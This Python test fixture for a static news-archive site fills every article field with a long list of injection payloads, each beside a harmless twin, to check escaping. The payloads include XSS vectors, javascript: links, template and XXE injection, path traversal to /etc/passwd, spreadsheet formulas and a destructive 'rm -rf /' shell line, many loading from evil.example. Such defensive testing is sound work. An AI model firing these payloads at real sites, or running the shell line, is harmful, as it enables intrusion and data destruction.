"""What someone might write into a record to get out of it, and a harmless twin of each."""

import json
from pathlib import Path

from tests.site.making import FIXTURE, article, content

HIT = "window.__hit=1"

PAYLOADS = {
    # elements
    "script": f"<script>{HIT}</script>",
    "script in capitals": f"<SCRIPT>{HIT}</SCRIPT>",
    "script with a space": f"<script >{HIT}</script >",
    "script after a slash": f"<script/x>{HIT}</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "module": "<script type=module src=https://evil.example/x.js></script>",
    "script in a script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script left open": f"<script>{HIT}",
    "half a tag": f"<img src=x onerror={HIT} ",
    "closing everything": f"</p></h1></title></textarea></style></script><script>{HIT}</script>",
    "image": f"<img src=x onerror={HIT}>",
    "image without spaces": f"<img/src=x/onerror={HIT}>",
    "image after a quote": f'"><img src=x onerror={HIT}>',
    "source set": "<img srcset='https://evil.example/a.png 1x' sizes=100vw>",
    "picture": "<picture><source srcset=//evil.example/a.png><img src=x></picture>",
    "video": f"<video><source onerror={HIT}></video>",
    "audio": f"<audio src=x onerror={HIT}>",
    "body": f"<body onload={HIT}>",
    "details": f"<details open ontoggle={HIT}>x</details>",
    "marquee": f"<marquee onstart={HIT}>x</marquee>",
    "frame": "<iframe src=https://evil.example></iframe>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "object": "<object data=//evil.example/x.swf></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "style": "<style>@import '//evil.example/x.css';</style>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": "<form action=https://evil.example><input name=q><button>x</button></form>",
    "button": f"<button formaction=javascript:{HIT}>x</button>",
    "template": f"<template><script>{HIT}</script></template>",
    "plaintext": "<plaintext>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    "textarea": f"<textarea></textarea><img src=x onerror={HIT}>",
    "svg": f"<svg/onload={HIT}>",
    "svg script": f"<svg><script>{HIT}</script></svg>",
    "svg animation": f"<svg><a><animate attributeName=href values=javascript:{HIT} /></a></svg>",
    "svg use": "<svg><use href='https://evil.example/x.svg#x'/></svg>",
    "svg foreign object": f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style>",
    "math link": f"<math href=javascript:{HIT}>x</math>",
    # attributes
    "double quote": f'" onmouseover="{HIT}" x="',
    "single quote": f"' onfocus='{HIT}' autofocus='",
    "backtick": f"` onfocus={HIT} autofocus x=`",
    "unquoted": f"x onfocus={HIT} autofocus tabindex=0",
    "quote as reference": f"&quot; onfocus=&quot;{HIT}&quot; autofocus",
    "css": "x;background:url(https://evil.example/x.png)",
    "css expression": f"width:expression({HIT})",
    "css in an attribute": f'" style="background:url(https://evil.example);x:expression({HIT})"',
    "data attribute": '" data-root="https://evil.example/" data-file="//evil.example/x.json',
    # addresses
    "javascript": f"javascript:{HIT}",
    "javascript in capitals": f"JaVaScRiPt:{HIT}",
    "javascript by reference": f"&#106;avascript:{HIT}",
    "javascript by long reference": f"&#x000006A;avascript&colon;{HIT}",
    "javascript with a tab": f"java&Tab;script:{HIT}",
    "data": f"data:text/html,<script>{HIT}</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    "vbscript": f"vbscript:{HIT}",
    "without a scheme": "//evil.example/x",
    "backslashes": "\\\\evil.example\\x",
    "path": "../../../../etc/passwd",
    "path in percents": "%2e%2e/%2e%2e%2fetc%2fpasswd",
    "null in percents": "images/a.png%00.html",
    # comments and sections
    "comment": f"<!--><script>{HIT}</script>-->",
    "comment's end": f"--><script>{HIT}</script><!--",
    "comment's other end": f"--!><img src=x onerror={HIT}>",
    "section": f"<![CDATA[<script>{HIT}</script>]]>",
    "section's end": f"]]><script>{HIT}</script>",
    "conditional comment": f"<!--[if IE]><script>{HIT}</script><![endif]-->",
    "instruction": f"<?xml version='1.0'?><?php {HIT} ?>",
    "doctype": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "references": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "references twice": f"&amp;lt;script&amp;gt;{HIT}&amp;lt;/script&amp;gt;",
    "reference left open": "&lt&quot&#60&#x3C",
    "reference too long": "&#" + "9" * 5000 + ";",
    "reference to nothing": "&#0;&#xD800;&#x110000;",
    "wide signs": f"＜script＞{HIT}＜/script＞",
    # templates, formats, codes
    "expression": "{{ 7*7 }}{{ config }}{{ ''.__class__ }}",
    "statement": "{% for x in ().__class__.__mro__ %}{% raw %}",
    "template comment": "{# x #}{% endblock %}",
    "format": "{0.__class__} {words} {count} {number} %s %(x)s {",
    "literal": "${window.__hit=1}`${window.__hit=1}`",
    "prototype": "__proto__ constructor hasOwnProperty toString",
    "json": '","x":1}],"title":["',
    "shell": "$(touch /tmp/x) `id` ; rm -rf / | cat",
    "formula": "=HYPERLINK(\"https://evil.example\") +1+1|' /C calc'!A0 @SUM(1)",
    "pattern": "\\1 \\g<0> (a+)+$ [^",
    "separators": "a;b,c b",
    "pelican": "{static}/../../etc/passwd |filename|x {index}",
    # Markdown, which lines must not read
    "markdown link": f"[x](javascript:{HIT})",
    "markdown picture": f'![x](x" onerror="{HIT})',
    "markdown autolink": f"<javascript:{HIT}>",
    "markdown reference": f"[x][y] [y]: javascript:{HIT}",
    "markdown heading": "# x",
    "markdown quote": "> > > > x",
    "markdown list": "- - - x",
    "markdown rule": "***",
    "markdown code": f"`<script>{HIT}</script>`",
    "markdown table": "| a | <script> | - |",
    # letters
    "another direction": "שלום עולם 2024 مرحبا 12",
    "marks on marks": "ệ\u0302\u0301 x\u0338\u0323",
    "wide": "Ạ" * 4000,
    "long": "từ " * 2000 + "hết",
    "opening": "<" * 3000,
    "opening brackets": "[" * 3000,
    "stars": "*_" * 1500,
    "emoji": "👨‍👩‍👧‍👦 🏳️‍🌈 ☠️",
}
"""One line each, of signs that a text may hold: shown as they are, wherever they stand."""

REFUSED = {
    "null": "a\x00b",
    "bell": "a\x07b",
    "escape": "a\x1b[31mb",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "byte order mark": "a\ufeffb",
    "not a character": "a\uffffb",
    "right to left": "a\u202eb",
    "left to right": "a\u202db",
    "embedding": "a\u202ab\u202c",
    "isolate": "a\u2066b\u2069",
    "direction mark": "a\u200fb",
    "zero width space": "a\u200bb",
    "zero width joiner": "a\u200db",
    "word joiner": "a\u2060b",
    "soft hyphen": "a\u00adb",
    "filler": "a\u3164b",
    "tag letters": "a\U000e0061b",
    "script hidden by nulls": "<scr\x00ipt>",
    "address hidden by a control": "java\x01script:x",
    "flood of marks": "a" + "\u0323\u0302\u0301\u0334" * 20 + "b",
}
"""Signs that no text may hold, raw or as YAML's escapes."""

TEXTS = {
    "link with a tab": f"[x](java\tscript:{HIT})",
    "link with a line's end": f"[x](<java\nscript:{HIT}>)",
    "link in percents": f"[x](%6aavascript:{HIT})",
    "link up": "[x](../../../../../etc/passwd) [y](/../../x)",
    "link's title": f"[x](https://vidu.example.vn \"a' onfocus='{HIT}\" autofocus)",
    "link's quote": f'[x](https://vidu.example.vn/"onfocus="{HIT})',
    "autolink": f"<javascript:{HIT}> <https://vidu.example.vn/'onfocus='{HIT}'>",
    "mail": "<a@b.example?subject=x&body=%0a> [x](mailto:a@b.example?bcc=c@d.example)",
    "reference over lines": f'[x][y]\n\n[y]:\n  javascript:{HIT}\n  "onfocus={HIT}"',
    "picture from elsewhere": "![x](https://evil.example/x.png)",
    "picture's words": f'![" onerror="{HIT}](https://evil.example/x.png)',
    "html block": f"<div onclick={HIT}>\n\n<script>{HIT}</script>\n\n</div>",
    "html in html": f"<p><b><i onclick={HIT}>x</i></b></p>\n<table><tr><td><script>{HIT}</script>",
    "comment": f"<!--\n<script>{HIT}</script>\n-->",
    "comment unclosed": f"<!-- x\n\n<script>{HIT}</script>",
    "declaration": "<!DOCTYPE html>\n<?php x ?>\n<![CDATA[x]]>",
    "front matter": "---\ntitle: Khác\n---",
    "settings": "Title: Khác\nTemplate: ../x\n\n[TOC]",
    "include": '{% include "base.html" %} {{ words }} {{ body | safe }}',
    "code": f"    <script>{HIT}</script>\n\n```html\n<script>{HIT}</script>\n```",
    "code's language": f'```"><script>{HIT}</script>\nx\n```',
    "attributes": f'# x {{: onclick="{HIT}" #noi-dung .skip }}\n\n{{: style="x" }}',
    "ids": '<p id="noi-dung">x</p>\n\n<a name="body"></a><img name="cookie">',
    "heading": "# Một\n\n###### Hai\n\nBa\n===",
    "table": f'a | b\n:-: | --\n<script>{HIT}</script> | "x"',
    "stash": "klzzwxh:0000 wzxhzdk:0 amp",
    "deep quotes": "> " * 300 + "x",
    "deep list": "\n".join("    " * depth + "- x" for depth in range(60)),
    "deep marks": "**_" * 200 + "x" + "_**" * 200,
    "brackets": "[" * 300 + "x" + "](x)" * 50,
    "pictures left open": "![" * 200,
    "ticks": "".join("`" * length + " " for length in range(1, 80)),
    "references": "&#0; &#xD800; &lt;script&gt; &" + "a" * 3000 + ";",
}
"""Markdown that reaches for more than a text may hold, and doesn't get it."""

REFUSED_TEXTS = {
    "link": f"[x](javascript:{HIT})",
    "link in capitals": f"[x](JAVASCRIPT:{HIT})",
    "link by reference": f"[x](&#106;avascript:{HIT})",
    "link by colon": f"[x](javascript&colon;{HIT})",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "link to vbscript": f"[x](vbscript:{HIT})",
    "link to a file": "[x](file:///etc/passwd)",
    "link without a scheme": "[x](//evil.example) [y](/\\evil.example) [z](\\\\evil.example)",
    "reference": f"[x][y] [z]\n\n[y]: javascript:{HIT}\n[z]: data:text/html,x 'a'",
    "picture of data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "picture in a link": f"[![x](x)](javascript:{HIT})",
}
"""Links that would be taken out of the page, so that the editor is told instead."""


OWN_PAGES = (
    "closing everything",
    "double quote",
    "meta refresh",
    "javascript",
    "statement",
    "format",
)
"""What the archive's own pages carry: their titles stand at the foot of every page."""

WITHDRAWN = ("closing everything", "double quote", "image", "template", "another direction")


def quoted(text: str) -> str:
    """Return a text as a YAML scalar in double quotes."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\x7f")


def title(number: int, text: str) -> str:
    return f"Bài {number} {text}".strip()


def filled(number: int, text: str) -> tuple[str, str]:
    """Return an article with this text in every field that may hold any."""
    one, lead = quoted(text), quoted(f"{text} có 7 xã")
    return article(
        number,
        title=quoted(title(number, text)),
        event_date='"2024-07-24"',
        date_evidence=f"[{one}]",
        source=f"{{name: {one}}}",
        byline=one,
        lead=lead,
        captions=f"[{one}]",
        counts=f"[{{id: c1, value: 7, unit: {one}, what: {one}, qualifier: {one}, quote: {lead},"
        f" period: '2024'}}, {{id: c2, value: 3, unit: {one}, part_of: c1, by: {one},"
        f" quote: 3 xã, period: '2024'}}]",
        people=f"[{{name: {one}, office: {one}}}]",
        documents=f"[{{type: {one}, number: {one}, title: {one}, issuer: {one}}}]",
        places=f"[{{name: {one}, level: xã, in: {one}}}]",
        tags=f"[{quoted(label(number, text))}]",
        sic=f"[{{found: {one}, read: {one}}}]",
        images=f"[{{src: images/a.png, description: {one}, credit: {one}}}]",
        body=f"Trong đó 3 xã.\n\nLời của bài {number}.",
    )


def label(number: int, text: str) -> str:
    return f"Nhãn {number} {text}"


def archive(root: Path, *, hostile: bool) -> Path:
    """Write a content folder of all payloads, or the same with harmless words in their place."""
    words = list(PAYLOADS.items())
    lines = [text if hostile else f"Lời lành {number}" for number, (_, text) in enumerate(words)]
    named = dict(zip(PAYLOADS, lines, strict=True))
    told = list(enumerate(lines, start=1))
    gone = [
        article(
            900 + number,
            title=quoted(title(900 + number, named[name])),
            status="withdrawn",
            withdrawn=f"{{on: '2026-11-21', reason: {quoted(named[name])}}}",
        )
        for number, name in enumerate(WITHDRAWN)
    ]
    texts = [
        article(500 + number, title=f"Lời {number}", body=text if hostile else "Lời lành.")
        for number, text in enumerate(TEXTS.values())
    ]
    own = [
        (
            f"pages/trang-{number}.md",
            f"---\ntitle: {quoted(title(number, named[name]))}\n"
            f"description: {quoted(named[name])}\n---\n\n{named[name]}\n",
        )
        for number, name in enumerate(OWN_PAGES)
    ]
    tags = "".join(f"- {{label: {quoted(label(*one))}, variants: [x{one[0]}]}}\n" for one in told)
    gaps = "".join(f"- {quoted(text)}\n" for text in lines)
    searched = "".join(
        f"- {{source: {quoted(text)}, years: '2024', on: '2026-11-20', found: none,"
        f" note: {quoted(text)}}}\n"
        for text in lines
    )
    content(
        root,
        *(filled(*one) for one in told),
        *gone,
        *texts,
        *own,
        ("tags.yaml", tags),
        ("coverage.yaml", f"searches:\n{searched}gaps:\n{gaps}"),
    )
    picture = FIXTURE / "images" / "hoi-truong.png"
    (root / "images").mkdir()
    (root / "images" / "a.png").write_bytes(picture.read_bytes())
    return root
